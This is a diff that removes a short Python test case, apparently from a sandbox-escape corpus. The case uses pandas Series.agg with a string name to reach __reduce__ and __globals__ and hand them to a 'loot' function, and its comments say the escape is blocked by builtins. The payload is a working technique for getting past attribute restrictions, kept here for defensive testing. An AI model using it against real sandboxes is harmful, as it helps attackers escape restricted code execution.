@@ -1,9 +1,0 @@
-# Read a forbidden attribute by giving its name as text.
-# mechanism: Series.agg looks a text up as an attribute
-# stopped by: builtins
-# reason: the library reads names that the program chose
-# imports: pandas
-
-import pandas
-
-loot(pandas.Series([1]).agg("__reduce__")[0].__globals__)
